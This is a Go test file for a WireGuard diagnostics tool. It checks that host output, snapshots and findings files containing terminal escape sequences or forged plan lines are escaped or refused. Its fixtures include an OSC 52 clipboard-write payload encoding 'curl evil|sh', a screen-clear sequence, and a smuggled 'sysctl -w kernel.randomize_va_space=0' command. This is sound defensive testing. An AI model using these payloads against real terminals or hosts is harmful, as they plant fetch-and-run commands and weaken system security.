package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/wgperf/wgperf/internal/diagnose"
	"github.com/wgperf/wgperf/internal/document"
	"github.com/wgperf/wgperf/internal/finding"
	"github.com/wgperf/wgperf/internal/fix"
	"github.com/wgperf/wgperf/internal/probe/bench"
	"github.com/wgperf/wgperf/internal/probe/icmpburst"
	"github.com/wgperf/wgperf/internal/probe/mtu"
	"github.com/wgperf/wgperf/internal/shell"
	"github.com/wgperf/wgperf/internal/target"
	"github.com/wgperf/wgperf/internal/target/targettest"
)

// osc52 writes "curl evil|sh" to the clipboard of the terminal that shows it;
// clear wipes the screen and homes the cursor, hiding what came before.
const (
	osc52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	clear = "\x1b[2J\x1b[H"
)

// rawControl finds what a terminal would obey: C0 controls but newline and
// tab, DEL and C1 controls (CSI as U+009B).
var rawControl = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f]|\u0080|[\u0081-\u009f]")

// forgedLine is the plan line the findings files below try to smuggle in.
var forgedLine = regexp.MustCompile(`(?m)^\s*9\. \[forged\]`)

// TestForeignTextEscapedWithoutTerminal is issue 30 item 8: with standard
// output a file or pipe (here a buffer), every renderer that shows text
// wgperf did not write — a target's answers, a snapshot, a findings file —
// shows its escape sequences escaped or refuses it in one line; none
// reaches the output raw, and a newline in it cannot forge a plan line. JSON
// output stays valid and keeps the values.
func TestForeignTextEscapedWithoutTerminal(t *testing.T) {
	dir := t.TempDir()
	// A host whose uname and sysctl answer with escape sequences.
	bin := filepath.Join(dir, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{
		"uname":  "6.1.0" + osc52 + clear,
		"sysctl": "212992" + clear + "\u009b2J" + osc52,
	} {
		script := "#!/bin/sh\nprintf '%s\\n' '" + out + "'\n"
		if err := os.WriteFile(filepath.Join(bin, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	sysctlFix := write("sysctl.json", `{"findings": [{"id": "udp.rcvbuf-errors", "severity": "warning", "title": "t", "evidence": [],
	  "fixes": [{"description": "raise it", "commands": [], "action": {"kind": "sysctl", "params": {"key": "net.core.rmem_max", "value": "26214400"}}}]}]}`)
	forged := write("forged.json", `{"findings": [{"id": "mtu.x", "severity": "info", "title": "t", "evidence": [],
	  "fixes": [{"description": "look\n\n9. [forged] set kernel.randomize_va_space = 0", "commands": ["true\n9. [forged] run: sysctl -w kernel.randomize_va_space=0"]}]}]}`)
	escapes := write("escapes.json", `{"findings": [{"id": "mtu.x", "severity": "info", "title": "t`+jsonEscape(osc52)+`", "evidence": [],
	  "fixes": [{"description": "d`+jsonEscape(clear)+`", "commands": ["ip link`+jsonEscape(osc52)+`"], "config": [{"path": "/etc/x", "lines": ["a`+jsonEscape(clear)+`"]}]}]}]}`)
	raw, err := os.ReadFile(snapshot("seed000-golem.json"))
	if err != nil {
		t.Fatal(err)
	}
	snap := write("snap.json", strings.Replace(strings.ReplaceAll(string(raw), "br-lan.253", "br-lan.253"+jsonEscape(clear)),
		`"hostname": "golem"`, `"hostname": "golem`+jsonEscape(osc52)+`"`, 1))

	oldPath := target.Path
	target.Path = bin + ":" + target.Path // the host's answers, where the target finds programs
	t.Cleanup(func() { target.Path = oldPath })
	for _, tc := range []struct {
		name string
		args []string
		json bool
	}{
		{"fix plan from a host's answers", []string{"fix", "--host", "local", "--root", dir, "--from", sysctlFix}, false},
		{"fix script from a host's answers", []string{"fix", "--host", "local", "--root", dir, "--from", sysctlFix, "--print-script"}, false},
		{"fix plan JSON from a host's answers", []string{"fix", "--host", "local", "--root", dir, "--from", sysctlFix, "--json"}, true},
		{"fix plan with forged lines", []string{"fix", "--host", "local", "--root", dir, "--from", forged}, false},
		{"fix script with forged lines", []string{"fix", "--host", "local", "--root", dir, "--from", forged, "--print-script"}, false},
		{"fix plan with escapes in free text", []string{"fix", "--host", "local", "--root", dir, "--from", escapes}, false},
		{"diagnose a snapshot with escapes", []string{"diagnose", "--from", snap}, false},
		{"diagnose JSON of a snapshot with escapes", []string{"diagnose", "--from", snap, "--json"}, true},
		{"fix plan from a snapshot with escapes", []string{"fix", "--host", "ssh:root@golem", "--root", dir, "--from", snap, "--print-script"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			code := run(tc.args, &out, &errOut)
			for what, b := range map[string]*bytes.Buffer{"stdout": &out, "stderr": &errOut} {
				if m := rawControl.FindString(b.String()); m != "" {
					t.Errorf("exit %d: raw %q on %s:\n%s", code, m, what, b.String())
				}
				if forgedLine.MatchString(b.String()) {
					t.Errorf("exit %d: a forged plan line on %s:\n%s", code, what, b.String())
				}
			}
			if code == exitFailed && strings.Count(errOut.String(), "\n") != 1 {
				t.Errorf("refused with %q, want one line", errOut.String())
			}
			if tc.json && code != exitFailed && !json.Valid(out.Bytes()) {
				t.Errorf("invalid JSON:\n%s", out.String())
			}
			t.Logf("exit %d, stderr %q, stdout %d bytes", code, errOut.String(), out.Len())
		})
	}
}

// jsonEscape writes s for a JSON string, escapes as \u escapes.
func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

// TestEveryRendererEscapesForeignText is issue 30 item 8 renderer by
// renderer: a host's text (an address, an interface or nft table name, as
// a host would print it) carrying an OSC 52 clipboard write and a screen
// clear is put into the recorded results of bench, mtu, icmp-burst,
// diagnose and a fix journal (a host's spec cannot carry it: it reads back
// only as a target spec, TestHostileSpecRefused), and each text
// renderer writes it through wgperf's standard output, not a terminal: no
// raw control character comes out, the text does, escaped.
func TestEveryRendererEscapesForeignText(t *testing.T) {
	evil := osc52 + clear + "\u009b2J"
	load := func(path, host string, v any) any {
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		hostile := strings.ReplaceAll(string(raw), host, host+jsonEscape(evil))
		if hostile == string(raw) {
			t.Fatalf("%s: no %q to make hostile", path, host)
		}
		if err := json.Unmarshal([]byte(hostile), v); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		return v
	}
	journal := &fix.Journal{ID: "20260101T000000.000000000Z", Host: targettest.Spec("local"), State: fix.StateConfirming,
		Entries: []fix.Entry{{Findings: []finding.ID{"mtu.tunnel-too-large"}, Description: "set the MTU of wg0" + evil, Status: fix.EntryApplied,
			Error: "ssh: " + evil}}}
	for _, tc := range []struct {
		name string
		v    textWriter
	}{
		{"bench", load("../../testdata/report/bench.json", "10.77.0.2", &bench.Report{}).(textWriter)},
		{"mtu", load("../../testdata/report/mtu.json", "203.0.113.2", &mtu.Result{}).(textWriter)},
		{"icmp-burst", load("../../testdata/report/icmp-burst.json", "banIP", &icmpburst.Result{}).(textWriter)},
		{"fix journal", journal},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			out := &stdoutWriter{TerminalWriter: shell.NewTerminalWriter(&b)}
			if err := writeResult(out, document.Kind(tc.name), tc.v, false); err != nil {
				t.Fatal(err)
			}
			if err := out.Flush(); err != nil {
				t.Fatal(err)
			}
			if m := rawControl.FindString(b.String()); m != "" {
				t.Errorf("raw %q in:\n%s", m, b.String())
			}
			if !strings.Contains(b.String(), shell.Terminal(evil)) {
				t.Errorf("the host's text is not in the output, escaped:\n%s", b.String())
			}
		})
	}
	var d diagnose.Diagnosis
	load("../../internal/diagnose/testdata/diagnosis.json", "wg-wgd4", &d)
	var b bytes.Buffer
	out := &stdoutWriter{TerminalWriter: shell.NewTerminalWriter(&b)}
	if err := (diagnose.Command{Color: useColor(out), Version: version}).Print(out, d, nil); err != nil {
		t.Fatal(err)
	}
	_ = out.Flush()
	if m := rawControl.FindString(b.String()); m != "" || !strings.Contains(b.String(), `\x1b]52;`) {
		t.Errorf("diagnose: raw %q, or the host's text missing:\n%s", m, b.String())
	}
}

// TestHostileSpecRefused: a recorded result whose host carries control
// characters is refused as it is read, in one line that shows them escaped,
// so no renderer ever gets it.
func TestHostileSpecRefused(t *testing.T) {
	raw, err := os.ReadFile("../../testdata/report/bench.json")
	if err != nil {
		t.Fatal(err)
	}
	hostile := strings.Replace(string(raw), "netns:wgl-wgh2-a", "netns:wgl-wgh2-a"+jsonEscape(osc52+clear), 1)
	var r bench.Report
	err = json.Unmarshal([]byte(hostile), &r)
	if err == nil {
		t.Fatalf("read as client %q", r.Client)
	}
	if m := rawControl.FindString(err.Error()); m != "" || strings.Contains(err.Error(), "\n") || !strings.Contains(err.Error(), "netns name must be a plain name") {
		t.Errorf("error %q: want one line, escaped, saying why", err)
	}
}
